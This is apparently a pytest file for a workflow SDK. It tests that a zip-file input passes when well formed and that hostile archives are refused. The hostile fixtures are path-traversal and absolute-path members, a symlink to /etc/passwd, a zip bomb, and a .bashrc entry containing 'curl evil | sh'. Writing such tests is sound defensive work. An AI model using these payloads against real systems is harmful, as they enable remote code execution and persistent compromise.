"""The zip port (a file dataset's type), File Dataset and Convert to Image Directory's zip input: what passes,
and every hostile zip refused."""

from __future__ import annotations

import io

import pandas as pd
import pytest
from pydantic import Field

from modules.library.computer_vision.convert_to_image_directory import ConvertToImageDirectory
from modules.library.data_input.file_dataset import FileDataset
from modules.sdk import (
    PORT_TYPES,
    DatasetRef,
    DataTable,
    InvalidModule,
    LocalContext,
    Module,
    ModuleError,
    Out,
    ParamModel,
    Registry,
    Table,
    dataset_kind,
    default_registry,
)
from modules.sdk import ports as zip_ports
from modules.sdk.ports import ZipFile, zip_members
from modules.sdk.values import ZipArchive
from tests.support.zips import encrypted, zip_of, zip_with_duplicate, zip_with_link

BUNDLE = zip_of({"helpers.py": "ANSWER = 42\n", "data/lookup.csv": "code,name\n1,one\n"})
TRAVERSAL = "'..', '.' or an empty folder name"


# -- the port type ---------------------------------------------------------------------------------------------


def test_the_zip_port_is_registered_and_connects_only_to_itself() -> None:
    assert PORT_TYPES["zip_file"] is ZipFile
    assert [name for name, t in PORT_TYPES.items() if t.accepts(ZipFile)] == ["zip_file"]
    assert ZipFile.describe() == {"name": "zip_file", "label": "Zip file", "accepts_subtypes_of": ["zip_file"]}


def test_a_zip_survives_the_store_round_trip_byte_for_byte() -> None:
    back = ZipFile.deserialize(ZipFile.serialize(ZipArchive(BUNDLE)))

    assert back == ZipArchive(BUNDLE)


def test_the_summary_lists_every_member_with_its_unpacked_size() -> None:
    assert ZipFile.summary(ZipArchive(BUNDLE)) == {
        "files": 2,
        "bytes": 28,
        "members": [{"name": "helpers.py", "size": 12}, {"name": "data/lookup.csv", "size": 16}],
    }


REFUSED = "the zip file: the archive member"


@pytest.mark.parametrize(
    ("data", "message"),
    [
        pytest.param(b"code,name\n1,one\n", "the zip file is not a zip archive", id="not-a-zip"),
        pytest.param(
            zip_of({"../escape.py": "x = 1\n"}),
            f"{REFUSED} '../escape.py' is refused: its name has {TRAVERSAL}",
            id="parent",
        ),
        pytest.param(
            zip_of({"ok/../../escape.py": "x"}),
            f"{REFUSED} 'ok/../../escape.py' is refused: its name has {TRAVERSAL}",
            id="nested-parent",
        ),
        pytest.param(
            zip_of({"/etc/cron.d/job": "x"}),
            f"{REFUSED} '/etc/cron.d/job' is refused: its name has an absolute path",
            id="absolute",
        ),
        pytest.param(
            zip_of({"C:/Windows/x.py": "x"}),
            f"{REFUSED} 'C:/Windows/x.py' is refused: its name has an absolute path",
            id="drive",
        ),
        pytest.param(
            zip_of({"dir\\x.py": "x"}), f"{REFUSED} 'dir\\\\x.py' is refused: its name has a backslash", id="backslash"
        ),
        pytest.param(
            zip_with_link("passwd", "/etc/passwd"),
            f"{REFUSED} 'passwd' is a symbolic link; links are refused",
            id="link",
        ),
        pytest.param(
            zip_with_duplicate("helpers.py"), f"{REFUSED} 'helpers.py' appears more than once", id="duplicate"
        ),
        pytest.param(
            encrypted(zip_of({"secret.py": "x = 1\n"})),
            f"{REFUSED} 'secret.py' is encrypted; encrypted files are refused",
            id="encrypted",
        ),
        pytest.param(zip_of({}), "the zip file holds no files", id="empty"),
    ],
)
def test_a_hostile_or_broken_zip_is_refused_naming_the_member(data: bytes, message: str) -> None:
    with pytest.raises(ValueError) as caught:
        ZipFile.deserialize(data)

    assert str(caught.value) == message


def test_too_many_files_are_refused_before_anything_is_read(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(zip_ports, "MAX_ZIP_FILES", 2)

    with pytest.raises(ValueError) as caught:
        zip_members(zip_of({"a.py": "", "b.py": "", "c.py": ""}))

    assert str(caught.value) == "the zip file: the archive holds 3 files; at most 2 are allowed"


def test_a_zip_bomb_is_refused_from_its_declared_sizes(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(zip_ports, "MAX_ZIP_BYTES", 1024 * 1024)
    bomb = zip_of({"zeros.bin": b"\0" * (2 * 1024 * 1024)})  # 2 MiB of zeros deflate to ~2 KB

    with pytest.raises(ValueError) as caught:
        zip_members(bomb)

    assert len(bomb) < 10_000
    assert str(caught.value) == "the zip file: the archive's files add up to more than 1 MiB"


def test_a_value_that_is_not_an_archive_is_refused_on_the_way_in_too() -> None:
    with pytest.raises(ValueError, match="is not a zip archive"):
        ZipFile.serialize(ZipArchive(b"not a zip"))


# -- the File Dataset module -----------------------------------------------------------------------------------


def test_file_dataset_outputs_the_uploaded_zip_and_logs_what_it_holds() -> None:
    ctx = LocalContext(files={7: BUNDLE})

    out = FileDataset().run({}, FileDataset.parse_params({"dataset": {"dataset_id": 7}}), ctx)

    assert out == {"files": ZipArchive(BUNDLE)}
    assert ctx.logs == ["2 files, 28 bytes unpacked"]


def test_file_dataset_refuses_a_table_dataset_naming_its_parameter() -> None:
    ctx = LocalContext(datasets={3: DataTable(pd.DataFrame({"a": [1]}))})

    with pytest.raises(ModuleError) as caught:
        FileDataset().run({}, FileDataset.parse_params({"dataset": {"dataset_id": 3}}), ctx)

    assert (caught.value.message, caught.value.param) == ("dataset 3 is a table, not a file dataset (a zip)", "dataset")
    assert ctx.logs == []


def test_file_dataset_refuses_a_hostile_zip_naming_the_member_and_its_parameter() -> None:
    ctx = LocalContext(files={7: zip_of({"../../home/user/.bashrc": "curl evil | sh\n"})})

    with pytest.raises(ModuleError) as caught:
        FileDataset().run({}, FileDataset.parse_params({"dataset": {"dataset_id": 7}}), ctx)

    assert caught.value.message == (
        f"file dataset 7: the archive member '../../home/user/.bashrc' is refused: its name has {TRAVERSAL}"
    )
    assert caught.value.param == "dataset"


def test_the_dataset_parameter_says_it_reads_a_file_dataset_and_dataset_a_table() -> None:
    file_schema = FileDataset.describe()["params_schema"]["properties"]["dataset"]
    table_module = default_registry().get("dataset")

    assert file_schema["x-tessera-dataset-kind"] == "file"
    assert dataset_kind(FileDataset.Params, "dataset") == "file"
    assert dataset_kind(table_module.Params, "dataset") == "table"


# -- Convert to Image Directory reads an uploaded zip ------------------------------------------------------------


def _png(colour: tuple[int, int, int]) -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (4, 4), colour).save(buf, format="PNG")
    return buf.getvalue()


def test_convert_to_image_directory_reads_the_uploaded_zip_instead_of_its_source() -> None:
    cat, dog = _png((200, 0, 0)), _png((0, 0, 200))
    upload = ZipArchive(zip_of({"cat/1.png": cat, "dog/1.png": dog, "dog/nested/2.png": dog, "__MACOSX/._x": "x"}))
    params = ConvertToImageDirectory.Params(source="Server path", path="/nowhere")  # not used: the input wins

    out = ConvertToImageDirectory().run({"input_dataset": upload}, params, LocalContext())

    images = out["image_directory"]
    assert images.classes == ["cat", "dog"]
    assert [(f.path, f.label, f.data) for f in images.images] == [
        ("cat/1.png", "cat", cat),
        ("dog/1.png", "dog", dog),
        ("dog/nested/2.png", "dog", dog),
    ]


def test_convert_to_image_directory_refuses_a_file_that_is_no_image_naming_its_input() -> None:
    upload = ZipArchive(zip_of({"cat/1.png": _png((1, 2, 3)), "cat/notes.txt": "hello"}))

    with pytest.raises(ModuleError) as caught:
        ConvertToImageDirectory().run({"input_dataset": upload}, ConvertToImageDirectory.Params(), LocalContext())

    assert caught.value.port == "input_dataset"
    assert caught.value.param is None
    assert caught.value.message.startswith("'cat/notes.txt' is not an image file (expected .jpg .jpeg .png")


def test_a_dataset_parameter_of_an_unknown_kind_is_refused_at_registration() -> None:
    class FolderDataset(Module):
        id = "folder_dataset"
        name = "Folder Dataset"
        category = "Data Input and Output"

        class Outputs:
            dataset = Out(Table)

        class Params(ParamModel):
            dataset: DatasetRef = Field(
                title="Dataset", description="d", json_schema_extra={"x-tessera-dataset-kind": "folder"}
            )

        def run(self, inputs: dict[str, object], params: object, ctx: object) -> dict[str, object]:
            return {}

    with pytest.raises(InvalidModule) as caught:
        Registry().register(FolderDataset)

    assert "parameter 'dataset' reads datasets of kind 'folder', not one of ('table', 'file')" in str(caught.value)
